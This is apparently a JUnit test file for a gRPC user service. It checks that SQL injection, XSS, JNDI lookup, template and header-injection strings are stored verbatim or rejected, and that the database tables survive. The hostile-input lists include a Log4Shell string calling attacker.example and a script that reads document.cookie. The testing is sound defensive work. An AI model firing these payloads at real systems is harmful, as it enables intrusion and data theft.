package io.github.usergrpc.user.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.Message;
import io.github.usergrpc.user.server.TestCalls.Closed;
import io.github.usergrpc.user.server.store.PostgresTestDatabase;
import io.github.usergrpc.user.server.store.jdbc.JdbcSettings;
import io.github.usergrpc.user.server.store.jdbc.JdbcUserStore;
import io.github.usergrpc.user.service.store.InMemoryUserStore;
import io.github.usergrpc.user.service.store.UserStore;
import io.github.usergrpc.user.v1.ActivityEvent;
import io.github.usergrpc.user.v1.CreateUserRequest;
import io.github.usergrpc.user.v1.GetUserRequest;
import io.github.usergrpc.user.v1.ListUsersRequest;
import io.github.usergrpc.user.v1.ListUsersResponse;
import io.github.usergrpc.user.v1.RecordActivityRequest;
import io.github.usergrpc.user.v1.UpdateUserRequest;
import io.github.usergrpc.user.v1.UserResponse;
import io.github.usergrpc.user.v1.UserServiceGrpc;
import io.github.usergrpc.user.v1.WatchRequest;
import io.grpc.Metadata;
import io.grpc.MethodDescriptor;
import io.grpc.Status;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Input shaped like an attack is data: SQL and script fragments, wildcards, unicode and emoji in names and
 * activity details are stored and returned verbatim on every store, and the tables they aim at are still
 * there; emails with such fragments are refused by validation, with messages that echo neither the
 * address nor anything internal; and NUL, which PostgreSQL cannot store, is refused on every store.
 */
class AttackShapedInputTest {

  /** Names that a careless store or page would execute, interpret or mangle; each a valid name. */
  static final List<String> HOSTILE_NAMES = List.of(
      "Robert'); DROP TABLE users;--",
      "'; DELETE FROM users WHERE '1'='1",
      "\" OR \"\"=\"",
      "x'||(SELECT pg_sleep(5))||'",
      "admin'--",
      "100% _wild_ \\escaped\\ [chars]",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(document.cookie)>",
      "${jndi:ldap://attacker.example/a} {{7*7}} %s%n%x",
      "Zoë Ångström 李小龍 Владимир حسن",
      "👩‍💻🦄✨ 🏳️‍🌈",
      "\u202Egnp.exe\u202C right-to-left override",
      "tab\there, line\nbreak, carriage\rreturn",
      "ﬁ ligature, Ｆｕｌｌｗｉｄｔｈ, e\u0301 combining");

  /** Emails carrying SQL or script; each breaks the email rule. */
  static final List<String> HOSTILE_EMAILS = List.of(
      "robert'); DROP TABLE users;--@example.com",
      "a@example.com' OR '1'='1",
      "<script>alert(1)</script>@example.com",
      "x@example.com\nBcc: victim@example.com",
      "\"admin\"@example.com",
      "a@b.com; DROP TABLE users",
      "admin@example.com\u0000.attacker.example");

  private static final Duration TIMEOUT = Duration.ofSeconds(10);

  @Test
  void inMemoryStore_hostileInputIsData() throws Exception {
    hostileInputIsData(new InMemoryUserStore());
  }

  @Test
  void h2Store_hostileInputIsData() throws Exception {
    hostileInputIsData(JdbcUserStore.open(
        JdbcSettings.newBuilder().setJdbcUrl("jdbc:h2:mem:attack-" + UUID.randomUUID()).build()));
  }

  @Nested
  class OnPostgres {

    @RegisterExtension
    final PostgresTestDatabase postgres = new PostgresTestDatabase();

    @Test
    void postgresStore_hostileInputIsData() throws Exception {
      hostileInputIsData(JdbcUserStore.open(postgres.settings()));
    }
  }

  private static void hostileInputIsData(UserStore store) throws Exception {
    try (store; InProcessServer server = new InProcessServer(store)) {
      UserServiceGrpc.UserServiceBlockingStub users = server.blocking();
      List<UserResponse> created = new ArrayList<>();
      for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
        String name = HOSTILE_NAMES.get(i);
        UserResponse user = users.createUser(CreateUserRequest.newBuilder()
            .setEmail("o'brien+" + i + "@example.com").setName(name).build());
        assertThat(user.getName()).as("created").isEqualTo(name);
        assertThat(user.getEmail()).isEqualTo("o'brien+" + i + "@example.com");
        assertThat(users.getUser(GetUserRequest.newBuilder().setId(user.getId()).build()).getName())
            .as("read back").isEqualTo(name);
        created.add(user);
      }

      // The tables are all still there, with every user in them.
      ListUsersResponse all = users.listUsers(ListUsersRequest.newBuilder().setLimit(100).build());
      assertThat(all.getTotal()).isEqualTo(HOSTILE_NAMES.size());
      assertThat(all.getUsersList()).extracting(UserResponse::getName)
          .containsExactlyInAnyOrderElementsOf(HOSTILE_NAMES);
      assertThat(store.count(Optional.empty())).isEqualTo(HOSTILE_NAMES.size());

      // Updates and activity details are stored verbatim too, and stream out verbatim.
      UserResponse first = created.get(0);
      Iterator<ActivityEvent> watch = UserServiceGrpc.newBlockingStub(server.channel())
          .withDeadlineAfter(10, TimeUnit.SECONDS)
          .watchUserActivity(WatchRequest.newBuilder().setUserId(first.getId()).build());
      TestCalls.awaitWatches(server.server(), 1);
      String renamed = HOSTILE_NAMES.get(HOSTILE_NAMES.size() - 1);
      assertThat(users.updateUser(UpdateUserRequest.newBuilder().setId(first.getId()).setName(renamed).build())
          .getName()).isEqualTo(renamed);
      String details = String.join(" | ", HOSTILE_NAMES);
      users.recordActivity(RecordActivityRequest.newBuilder().setUserId(first.getId()).setAction("page_view")
          .setDetails(details).build());
      assertThat(watch.next().getAction()).isEqualTo("user.updated");
      assertThat(watch.next().getDetails()).isEqualTo(details);

      // Lookups with SQL in them find nothing and break nothing.
      for (String id : List.of("' OR '1'='1", first.getId() + "' OR '1'='1", "%", "*")) {
        Closed closed = TestCalls.call(server.channel(), UserServiceGrpc.getGetUserMethod(),
            GetUserRequest.newBuilder().setId(id).build(), new Metadata(), TIMEOUT);
        assertThat(closed.code()).as(id).isEqualTo(Status.Code.NOT_FOUND);
      }
      Closed badFilter = TestCalls.call(server.channel(), UserServiceGrpc.getListUsersMethod(),
          ListUsersRequest.newBuilder().setRoleFilter("viewer' OR '1'='1").build(), new Metadata(), TIMEOUT);
      assertThat(badFilter.reason()).isEqualTo("INVALID_FIELDS");
      Closed badToken = TestCalls.call(server.channel(), UserServiceGrpc.getListUsersMethod(),
          ListUsersRequest.newBuilder().setPageToken("' UNION SELECT * FROM users --").build(), new Metadata(),
          TIMEOUT);
      assertThat(badToken.reason()).isEqualTo("INVALID_PAGE_TOKEN");

      // Emails with such fragments are refused by validation, with a message that echoes nothing.
      for (String email : HOSTILE_EMAILS) {
        Closed closed = TestCalls.call(server.channel(), UserServiceGrpc.getCreateUserMethod(),
            CreateUserRequest.newBuilder().setEmail(email).setName("N").build(), new Metadata(), TIMEOUT);
        assertThat(closed.code()).as(email).isEqualTo(Status.Code.INVALID_ARGUMENT);
        assertThat(closed.reason()).isEqualTo("INVALID_FIELDS");
        assertThat(closed.status().getDescription())
            .startsWith("invalid request: email must be a valid email address")
            .doesNotContain("DROP", "script", "example.com", "SQL", "Exception", "org.");
        Closed update = TestCalls.call(server.channel(), UserServiceGrpc.getUpdateUserMethod(),
            UpdateUserRequest.newBuilder().setId(first.getId()).setEmail(email).build(), new Metadata(), TIMEOUT);
        assertThat(update.status().getDescription())
            .startsWith("invalid request: email must be a valid email address")
            .doesNotContain("DROP", "script", "example.com", "SQL", "Exception", "org.");
      }

      // NUL, which PostgreSQL cannot store, is refused on every store alike, in any string field.
      Map<MethodDescriptor<?, ?>, Message> withNul = Map.of(
          UserServiceGrpc.getCreateUserMethod(), CreateUserRequest.newBuilder().setEmail("nul@example.com")
              .setName("nul\u0000byte").build(),
          UserServiceGrpc.getGetUserMethod(), GetUserRequest.newBuilder().setId(first.getId() + "\u0000").build(),
          UserServiceGrpc.getRecordActivityMethod(), RecordActivityRequest.newBuilder().setUserId(first.getId())
              .setAction("page_view").setDetails("\u0000").build());
      Map<MethodDescriptor<?, ?>, String> fields = Map.of(UserServiceGrpc.getCreateUserMethod(), "name",
          UserServiceGrpc.getGetUserMethod(), "id", UserServiceGrpc.getRecordActivityMethod(), "details");
      withNul.forEach((method, request) -> {
        Closed closed = TestCalls.call(server.channel(), method, request, new Metadata(), TIMEOUT);
        assertThat(closed.code()).as(method.getFullMethodName()).isEqualTo(Status.Code.INVALID_ARGUMENT);
        assertThat(closed.badRequest().getFieldViolationsList()).singleElement().satisfies(violation -> {
          assertThat(violation.getField()).isEqualTo(fields.get(method));
          assertThat(violation.getReason()).isEqualTo("string.no_nul");
        });
      });
      assertThat(users.listUsers(ListUsersRequest.getDefaultInstance()).getTotal())
          .isEqualTo(HOSTILE_NAMES.size());
    }
  }
}
